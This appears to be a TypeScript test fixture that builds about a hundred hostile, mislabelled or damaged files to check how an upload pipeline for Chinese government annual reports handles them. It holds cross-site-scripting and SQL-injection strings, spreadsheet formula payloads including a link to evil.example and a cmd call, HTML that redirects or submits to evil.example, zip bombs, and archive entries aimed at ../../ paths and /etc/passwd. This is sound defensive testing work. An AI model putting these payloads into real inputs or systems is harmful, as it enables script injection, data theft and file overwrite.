import { zipSync } from 'fflate';
import { writeXlsx } from '@/export/xlsx';
import { docx, pack, paragraph } from '../parse/files/support/office-writer';
import { htmlReports } from './clean-reports';
import { reportFile, reportPdf } from './report-file';

/** Where a file ends: as a report to look through, as a table, as tables taken in or refused, or said to be no report. */
export type End = 'report' | 'sheet' | 'brought' | 'refused';

/** A file that means no good, or is broken, and what has to become of it. */
export interface HostileFile {
  readonly name: string;
  /** A number is the size of a file of zeros that takes no room on the disk. */
  readonly content: Uint8Array | number;
  readonly end: End;
  /** What the page has to say of it. */
  readonly says?: RegExp;
}

export const SCRIPTS = [
  '<script>window.pwned=1</script>', '<img src=x onerror="window.pwned=1">', '"><img src=x onerror=window.pwned=1>', `'><svg onload=window.pwned=1>`,
  '<iframe src="javascript:parent.pwned=1"></iframe>', '{{constructor.constructor("window.pwned=1")()}}', `'; DROP TABLE report;--`,
] as const;
const FORMULAS = ['=HYPERLINK("http://evil.example","x")', '+1+cmd|calc!A0', '@SUM(1)', '-2+3', '\t=1+1'];
const HEAD = '机关名称,年度,口径,新收\n';
const DAMAGED = /已损坏或不完整|不完整，文件末尾缺失/u;

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const latin1 = (text: string): Uint8Array => Uint8Array.from(text, (character) => character.charCodeAt(0));
const cell = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
const utf16 = (text: string, little: boolean): Uint8Array => Uint8Array.from([...text].flatMap((one) => (little ? [one.charCodeAt(0) & 255, one.charCodeAt(0) >> 8] : [one.charCodeAt(0) >> 8, one.charCodeAt(0) & 255])));
const part = (bytes: Uint8Array, share: number): Uint8Array => bytes.slice(0, Math.floor(bytes.length * share));

const html = (name: string, more = ''): Uint8Array => {
  const [report] = htmlReports(1);
  if (!report) throw new Error('There is no report.');
  return utf8(report.text.replaceAll(report.body, escaped(name)) + more);
};

function changed(zip: Uint8Array, at: number, value: number, size: 16 | 32): Uint8Array {
  const bytes = zip.slice();
  const view = new DataView(bytes.buffer);
  const entry = view.getUint32(bytes.length - 22 + 16, true);
  if (size === 16) view.setUint16(entry + at, value, true);
  else view.setUint32(entry + at, value, true);
  return bytes;
}

/** Scripts, formulas and SQL wherever a file has text. */
async function talking(): Promise<HostileFile[]> {
  const book = async (name: string) => new Uint8Array(await (await writeXlsx([{ sheet: '表', data: [['机关名称', '年度', '口径', '新收'], [name, 2018, '本机关', 3]].map((row) => row.map((value) => ({ value, type: typeof value === 'number' ? Number : String }))) }])).arrayBuffer());
  const tables = await Promise.all([...SCRIPTS, ...FORMULAS].map(async (text, at): Promise<readonly HostileFile[]> => [
    { name: `table-${String(at)}.csv`, content: utf8(`${HEAD}${cell(text)},2018,本机关,3\n`), end: 'sheet' },
    { name: `book-${String(at)}.xlsx`, content: await book(text), end: 'sheet' },
  ]));
  const reports = SCRIPTS.map((text, at): readonly HostileFile[] => [
    { name: `page-${String(at)}.html`, content: html(`清河市${text}人民政府`), end: 'report' },
    { name: `live-${String(at)}.html`, content: html('清河市人民政府', text), end: 'report' },
    { name: `word-${String(at)}.docx`, content: reportFile(`清河市${text}局`, 2018, 3), end: 'report' },
  ]);
  const calling = ['<meta http-equiv="refresh" content="0;url=http://evil.example/">', '<base href="http://evil.example/"><link rel="stylesheet" href="a.css">', '<form id=f action="http://evil.example"></form><script>f.submit()</script>', '<object data="http://evil.example/a.swf"></object>', '<table background="http://evil.example/a.png"><tr><td><img src="http://evil.example/b.png">'];
  return [
    ...tables.flat(), ...reports.flat(),
    ...calling.map((text, at): HostileFile => ({ name: `calls-${String(at)}.html`, content: html('清河市人民政府', text), end: 'report' })),
    { name: `"><img src=x onerror=window.pwned=1>.html`, content: utf8('<script>window.pwned=1</script><h1>关于采购的公告</h1>'), end: 'refused', says: /不是政府信息公开工作年度报告/u },
    { name: `'; DROP TABLE report;--.csv`, content: utf8(`${HEAD}清河市人民政府,2018,汇总,3\n`), end: 'sheet' },
    { name: '\u202egpj.\u202c名称倒写.html', content: utf8('<p>无</p>'), end: 'refused' },
    { name: `${'长'.repeat(80)}.html`, content: utf8('<p>无</p>'), end: 'refused' },
  ];
}

/** What lies about its kind. */
function lying(): HostileFile[] {
  return [
    { name: 'word-as.pdf', content: reportFile('清河市财政局', 2018, 3), end: 'report' },
    { name: 'pdf-as.xlsx', content: reportPdf('清河市人民政府', 2018, 3), end: 'report' },
    { name: 'picture-as.docx', content: latin1('\x89PNG\r\n\x1a\n1234'), end: 'refused', says: /图片/u },
    { name: 'text-as.parquet', content: utf8('今日无事'), end: 'refused', says: /不是政府信息公开工作年度报告/u },
    { name: 'page-as.duckdb', content: utf8('<p>今日无事</p>'), end: 'refused' },
    { name: 'program-as.docx', content: latin1('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\x01\x02'), end: 'refused', says: /无法识别的文件/u },
    { name: 'old-word-as.docx', content: Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...[...'WordDocument'].flatMap((one) => [one.charCodeAt(0), 0])]), end: 'refused', says: /旧版 Word.*另存为 \.docx/su },
    { name: 'rich-text-as.html', content: utf8('{\\rtf1 abc}'), end: 'refused', says: /RTF/u },
    { name: 'archive-as.zip', content: latin1('7z\xbc\xaf\x27\x1c\0\x04'), end: 'refused', says: /压缩包.*请先解压/su },
    { name: 'zip-as.csv', content: pack({ 'a.txt': '今日无事' }), end: 'refused' },
    { name: 'empty.docx', content: new Uint8Array(0), end: 'refused', says: /文件是空的/u },
    { name: 'empty.csv', content: new Uint8Array(0), end: 'refused', says: /文件是空的/u },
    { name: 'empty.zip', content: zipSync({}), end: 'refused', says: /没有文件/u },
    { name: 'half-a-gigabyte.csv', content: 500 * 1024 * 1024, end: 'refused', says: /500 MB.*64 MB.*请拆分/su },
    { name: 'half-a-gigabyte.duckdb', content: 501 * 1024 * 1024, end: 'refused', says: /501 MB/u },
    { name: 'declares-entities.docx', content: docx('', { 'word/document.xml': '<!DOCTYPE x [<!ENTITY a "aaaa">]><w:document><w:body>&a;</w:body></w:document>' }), end: 'refused', says: /自行声明了实体/u },
    { name: 'deep.docx', content: docx('<w:sdt>'.repeat(5000)), end: 'refused', says: /嵌套层数/u },
    { name: 'deep.html', content: utf8('<div>'.repeat(50_000)), end: 'refused' },
  ];
}

/** What was cut off, or spoilt in the middle. */
async function broken(): Promise<HostileFile[]> {
  const word = docx(paragraph('清河市人民政府2018年政府信息公开工作年度报告').repeat(3000));
  const book = new Uint8Array(await (await writeXlsx([{ sheet: '表', data: [[{ value: '机关名称', type: String }]] }])).arrayBuffer());
  const pdf = reportPdf('清河市人民政府', 2018, 3);
  return [
    ...[0.2, 0.6, 0.95].map((share): HostileFile => ({ name: `cut-${String(share)}.docx`, content: part(word, share), end: 'refused', says: /Word 文档（\.docx）不完整，文件末尾缺失.*重新下载/su })),
    ...[0.3, 0.8].map((share): HostileFile => ({ name: `cut-${String(share)}.xlsx`, content: part(book, share), end: 'brought', says: /Excel 表格（\.xlsx）(已损坏或不完整|不完整，文件末尾缺失).*重新下载/su })),
    { name: 'cut-0.1.pdf', content: part(pdf, 0.02), end: 'refused', says: /PDF不完整，文件末尾缺失.*重新下载/su },
    { name: 'cut.zip', content: part(pack({ 'a.txt': 'x'.repeat(5000), 'b.txt': 'y' }), 0.4), end: 'refused', says: /zip 压缩包不完整，文件末尾缺失/u },
    { name: 'cut.parquet', content: latin1('PAR1\x15\x04\x15\x10'), end: 'refused', says: /Parquet 表格已损坏或不完整/u },
    { name: 'cut-foot.parquet', content: latin1('PAR1\x15\x04\x15\x10\xff\xff\xff\x7fPAR1'), end: 'refused', says: /Parquet/u },
    { name: 'cut.mht', content: utf8('MIME-Version: 1.0\nContent-Type: multipart/related; boundary="x"\n\n--x\nContent-Type: image/png\n\nabc'), end: 'refused', says: /网页存档（\.mht）已损坏或不完整/u },
    { name: 'cut-row.csv', content: utf8(`${HEAD}清河市人民政府,2018,汇总,3\n清河市财政局,20`), end: 'sheet', says: /单元格比表头少/u },
    { name: 'open-quote.csv', content: utf8(`${HEAD}清河市人民政府,2018,汇总,3\n"清河市财政局,2018,汇总,3\n清河市民政局,2018,汇总,3\n`), end: 'sheet', says: /引号没有成对/u },
    { name: 'nul.csv', content: utf8(`${HEAD}清河市\0人民政府,2018,汇总,3\0\n`), end: 'sheet', says: /控制字符/u },
    { name: 'noise.txt', content: Uint8Array.from({ length: 4096 }, (_, at) => (at * 167 + 13) % 251), end: 'refused' },
  ];
}

/** Tables whose cells are not what they ought to be. */
function odd(): HostileFile[] {
  const rows = (...lines: readonly string[]): Uint8Array => utf8(`${HEAD}${lines.join('\n')}\n`);
  return [
    { name: 'huge-number.csv', content: rows('清河市人民政府,2018,汇总,1e308'), end: 'sheet', says: /不是整数/u },
    { name: 'far-year.csv', content: rows('清河市人民政府,99999,汇总,3'), end: 'sheet', says: /数值过大/u },
    { name: 'twice.csv', content: rows('清河市人民政府,2018,汇总,3', '清河市人民政府,2018,汇总,4'), end: 'sheet', says: /两行说的是同一项/u },
    { name: 'right-to-left.csv', content: rows('\u202e清河市\u200f人民政府\u2066,2018,汇总,3'), end: 'sheet' },
    { name: 'rare.csv', content: rows('𠮷林市人民政府,2018,汇总,3', '👨‍👩‍👧市\u0301局,2018,汇总,3'), end: 'sheet' },
    { name: 'lone-surrogate.csv', content: Uint8Array.from([...rows('清河市'), 0xed, 0xa0, 0x80, ...utf8(',2018,汇总,3\n')]), end: 'sheet', says: /不属于 UTF-8/u },
    { name: 'utf16-little.csv', content: utf16(`${HEAD}清河市人民政府,2018,汇总,3\n`, true), end: 'sheet' },
    { name: 'utf16-big.csv', content: utf16(`${HEAD}清河市人民政府,2018,汇总,3\n`, false), end: 'sheet' },
    { name: 'mark-only.csv', content: Uint8Array.from([0xef, 0xbb, 0xbf]), end: 'refused' },
    { name: 'head-only.csv', content: utf8(HEAD), end: 'sheet', says: /没有数据行/u },
    { name: 'returns.csv', content: utf8(`${HEAD}清河市人民政府,2018,汇总,3\n`.replaceAll('\n', '\r')), end: 'sheet' },
    { name: 'quotes.csv', content: rows('""""""""""清河市,2018,汇总,3'), end: 'sheet', says: /引号/u },
    { name: 'long-cell.csv', content: rows(`${'清'.repeat(300_000)},2018,汇总,3`), end: 'sheet', says: /文字过长/u },
    { name: 'wide.csv', content: utf8(`${HEAD.trim()}${',x'.repeat(2000)}\n清河市人民政府,2018,汇总,3${',1'.repeat(2000)}\n`), end: 'sheet' },
  ];
}

/** Zips that grow, lie, or would write elsewhere. */
function zipped(): HostileFile[] {
  const one = pack({ 'a.txt': '今日无事' });
  const deep = (levels: number): Uint8Array => (levels === 0 ? one : pack({ 'in.zip': deep(levels - 1) }));
  return [
    { name: 'bomb.zip', content: zipSync({ 'a.txt': new Uint8Array(66 * 1024 * 1024) }, { level: 1 }), end: 'refused', says: /解压后超过 64 MB/u },
    { name: 'bomb-word.docx', content: docx('', { 'word/document.xml': new Uint8Array(90 * 1024 * 1024) }), end: 'refused', says: /解压后超过/u },
    { name: 'nested.zip', content: deep(6), end: 'refused', says: /层层嵌套.*请先解压/su },
    { name: 'many.zip', content: zipSync(Object.fromEntries(Array.from({ length: 10_050 }, (_, at) => [`${String(at)}.txt`, new Uint8Array(0)])), { level: 0 }), end: 'refused', says: /10050 个文件/u },
    { name: 'elsewhere.zip', content: pack({ '../../x.txt': '今日无事', 'C:\\y.txt': '今日无事', '/etc/z.txt': '今日无事', '..\\..\\w.txt': '今日无事' }), end: 'refused' },
    { name: 'scripts.zip', content: pack(Object.fromEntries(SCRIPTS.slice(0, 4).map((text, at) => [`${text.replaceAll('/', '')}${String(at)}.html`, text]))), end: 'refused' },
    { name: 'locked.zip', content: changed(one, 8, 1, 16), end: 'refused', says: /需要密码.*请去掉密码/su },
    { name: 'unknown-method.zip', content: changed(one, 10, 99, 16), end: 'refused', says: /压缩方式（99）/u },
    { name: 'lies-of-size.zip', content: changed(one, 24, 0xfffffff0, 32), end: 'refused', says: /解压后超过/u },
    { name: 'lies-of-place.zip', content: changed(one, 42, 0x7fffffff, 32), end: 'refused', says: DAMAGED },
    { name: 'broken-table.zip', content: pack({ 'datapackage.json': '{"name":' }), end: 'brought', says: /datapackage\.json/u },
    { name: 'unsafe.zip', content: pack({ 'datapackage.json': JSON.stringify({ name: 'x', resources: [{ name: 'agencies', path: '../../etc/passwd' }, { name: 'reports', path: 'C:\\reports.csv' }] }) }), end: 'brought', says: /路径指向数据包之外/u },
  ];
}

/** About a hundred hostile files, none with the name of another. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  return [...(await talking()), ...lying(), ...(await broken()), ...odd(), ...zipped()];
}
